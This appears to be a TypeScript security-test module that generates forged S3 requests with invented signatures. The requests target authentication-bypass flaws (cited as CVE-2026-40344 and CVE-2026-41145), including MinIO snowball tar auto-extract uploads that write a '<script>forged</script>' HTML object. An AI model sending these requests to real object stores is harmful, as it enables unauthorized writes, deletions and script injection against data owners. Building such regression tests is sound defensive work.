import http from 'node:http';
import { crc32 } from 'node:zlib';

/** A request that is sent exactly as written. An S3 client would add or change headers. */
export interface RawRequest {
  readonly method: string;
  readonly url: string;
  readonly headers: Record<string, string>;
  readonly body: Buffer;
}

/** The object that a forged request aims at, and everything that the attacker knows. */
export interface Target {
  readonly endpoint: string;
  readonly bucket: string;
  readonly key: string;
  readonly accessKey: string;
  /** Id of a multipart upload that another client has begun. */
  readonly uploadId: string;
}

/** An attempt to access the store with an invented signature. */
export interface Forgery {
  readonly name: string;
  build(target: Target): RawRequest;
}

/** Sends a request to the store and returns the HTTP status. */
export function send({ method, url, headers, body }: RawRequest): Promise<number> {
  const { promise, resolve, reject } = Promise.withResolvers<number>();
  http
    .request(url, { method, headers }, (response) => {
      response.on('end', () => resolve(response.statusCode ?? 0)).resume();
    })
    .once('error', reject)
    .end(body);
  return promise;
}

const forgedBytes = Buffer.from('<script>forged</script>');

/** Makes a tar archive with one file. The store would unpack it to an object with this key. */
function tar(key: string): Buffer {
  const header = Buffer.alloc(512);
  const octal = (value: number, length: number) => `${value.toString(8).padStart(length - 1, '0')}\0`;
  const fields: [number, string][] = [
    [0, key],
    [100, octal(0o644, 8)],
    [108, octal(0, 8)],
    [116, octal(0, 8)],
    [124, octal(forgedBytes.length, 12)],
    [136, octal(0, 12)],
    // For the checksum, the checksum field itself counts as spaces.
    [148, ' '.repeat(8)],
    [156, '0'],
    [257, 'ustar\x0000'],
  ];
  for (const [at, text] of fields) header.write(text, at);
  header.write(
    `${octal(
      header.reduce((sum, byte) => sum + byte),
      7,
    )} `,
    148,
  );
  const padding = Buffer.alloc(512 - (forgedBytes.length % 512) + 1024);
  return Buffer.concat([header, forgedBytes, padding]);
}

/** Encodes bytes as unsigned chunks with a trailer that contains their checksum. */
function awsChunked(bytes: Buffer): Buffer {
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(bytes));
  const trailer = `0\r\nx-amz-checksum-crc32:${sum.toString('base64')}\r\n\r\n`;
  return Buffer.concat([
    Buffer.from(`${bytes.length.toString(16)}\r\n`),
    bytes,
    Buffer.from(`\r\n${trailer}`),
  ]);
}

type Fields = Record<string, string>;
interface Signed {
  readonly headers: Fields;
  readonly query: Fields;
}

const inventedSignature = '0'.repeat(64);
const scope = (accessKey: string, at: string) => `${accessKey}/${at.slice(0, 8)}/us-east-1/s3/aws4_request`;
const inQuery = (accessKey: string, at: string) => ({
  'X-Amz-Algorithm': 'AWS4-HMAC-SHA256',
  'X-Amz-Credential': scope(accessKey, at),
  'X-Amz-Date': at,
  'X-Amz-Expires': '600',
  'X-Amz-SignedHeaders': 'host',
  'X-Amz-Signature': inventedSignature,
});

const credentials: Record<string, (accessKey: string, at: string) => Signed> = {
  'key in the header': (accessKey, at) => ({
    headers: {
      Authorization: `AWS4-HMAC-SHA256 Credential=${scope(accessKey, at)}, SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature=${inventedSignature}`,
      'X-Amz-Date': at,
    },
    query: {},
  }),
  'key in the query': (accessKey, at) => ({ headers: {}, query: inQuery(accessKey, at) }),
  'key in the query beside another hash': (accessKey, at) => ({
    headers: {},
    query: { ...inQuery(accessKey, at), 'X-Amz-Content-Sha256': 'UNSIGNED-PAYLOAD' },
  }),
  'key in the query beside a rule of the policies': (accessKey, at) => ({
    headers: {},
    query: { ...inQuery(accessKey, at), authType: 'POST', authtype: 'POST', 's3:authType': 'POST' },
  }),
  'key in the query by the older signature': (accessKey) => ({
    headers: {},
    query: { AWSAccessKeyId: accessKey, Expires: '4000000000', Signature: 'AAAAAAAAAAAAAAAAAAAAAAAAAAA=' },
  }),
  'key in the header by the older signature': (accessKey) => ({
    headers: { Authorization: `AWS ${accessKey}:AAAAAAAAAAAAAAAAAAAAAAAAAAA=` },
    query: {},
  }),
};

interface Operation {
  readonly method: string;
  query?(target: Target): Fields;
  headers?(target: Target): Fields;
}

const copySource = ({ bucket, key }: Target) => ({ 'X-Amz-Copy-Source': `/${bucket}/${key}` });
const operations: Record<string, Operation> = {
  PutObject: { method: 'PUT' },
  'PutObject of an archive': {
    method: 'PUT',
    headers: () => ({ 'X-Amz-Meta-Snowball-Auto-Extract': 'true' }),
  },
  'PutObject of an archive, with options': {
    method: 'PUT',
    headers: () => ({
      'X-Amz-Meta-Snowball-Auto-Extract': 'true',
      'X-Amz-Meta-Minio-Snowball-Prefix': '',
      'X-Amz-Meta-Minio-Snowball-Ignore-Errors': 'true',
    }),
  },
  UploadPart: { method: 'PUT', query: ({ uploadId }) => ({ partNumber: '1', uploadId }) },
  UploadPartCopy: {
    method: 'PUT',
    query: ({ uploadId }) => ({ partNumber: '1', uploadId }),
    headers: copySource,
  },
  CreateMultipartUpload: { method: 'POST', query: () => ({ uploads: '' }) },
  CompleteMultipartUpload: { method: 'POST', query: ({ uploadId }) => ({ uploadId }) },
  CopyObject: { method: 'PUT', headers: copySource },
  PutObjectTagging: { method: 'PUT', query: () => ({ tagging: '' }) },
  DeleteObject: { method: 'DELETE' },
};

const unsignedTrailer = 'STREAMING-UNSIGNED-PAYLOAD-TRAILER';
const hashes = [
  unsignedTrailer,
  'STREAMING-AWS4-HMAC-SHA256-PAYLOAD',
  'STREAMING-AWS4-HMAC-SHA256-PAYLOAD-TRAILER',
  'UNSIGNED-PAYLOAD',
];

const bodies: Record<string, (bytes: Buffer) => { headers: Fields; body: Buffer }> = {
  'plain body': (bytes) => ({ headers: { 'Content-Length': String(bytes.length) }, body: bytes }),
  'body in chunks': (bytes) => {
    const body = awsChunked(bytes);
    return { headers: { ...chunkHeaders(bytes), 'Content-Length': String(body.length) }, body };
  },
  'body in chunks within chunks of HTTP': (bytes) => ({
    headers: { ...chunkHeaders(bytes), 'Transfer-Encoding': 'chunked' },
    body: awsChunked(bytes),
  }),
};

const chunkHeaders = (bytes: Buffer) => ({
  'Content-Encoding': 'aws-chunked',
  'X-Amz-Decoded-Content-Length': String(bytes.length),
  'X-Amz-Trailer': 'x-amz-checksum-crc32',
});

const spellings: Record<string, (name: string) => string> = {
  'names as documented': (name) => name,
  'names in lower case': (name) => name.toLowerCase(),
  'names in upper case': (name) => name.toUpperCase(),
};

/** Builds the attacks of CVE-2026-40344 and CVE-2026-41145 on an operation, and similar ones. */
function forge(operation: Operation): Forgery[] {
  return combinations.map(({ name, sign, wrap, hash, spell }) => ({
    name,
    build(target) {
      const { endpoint, bucket, key, accessKey } = target;
      const now = new Date().toISOString().replaceAll(/[-:]|\.\d+/g, '');
      const signed = sign(accessKey, now);
      const operationHeaders = operation.headers?.(target) ?? {};
      const sent = wrap('X-Amz-Meta-Snowball-Auto-Extract' in operationHeaders ? tar(key) : forgedBytes);
      const url = new URL(`${endpoint}/${bucket}/${key}`);
      const query = { ...operation.query?.(target), ...signed.query };
      for (const [name, value] of Object.entries(query)) url.searchParams.set(name, value);
      const typed = { 'Content-Type': 'text/html', 'X-Amz-Content-Sha256': hash };
      const headers = { ...typed, ...signed.headers, ...operationHeaders, ...sent.headers };
      return {
        method: operation.method,
        url: url.href,
        headers: Object.fromEntries(Object.entries(headers).map(([name, value]) => [spell(name), value])),
        body: sent.body,
      };
    },
  }));
}

const combinations = Object.entries(credentials).flatMap(([credential, sign]) =>
  Object.entries(bodies).flatMap(([wrapping, wrap]) =>
    hashes.flatMap((hash) => {
      const all = Object.entries(spellings);
      // Header names are varied only for unsigned trailers, the one case that stores have accepted.
      const spelt = hash === unsignedTrailer ? all : all.slice(0, 1);
      return spelt.map(([spelling, spell]) => {
        const name = [credential, wrapping, hash, spelling].join(', ');
        return { name, sign, wrap, hash, spell };
      });
    }),
  ),
);

/** All operations with their forged requests. */
export const forgeries = Object.entries(operations).map(([operation, how]) => ({
  operation,
  variants: forge(how),
}));
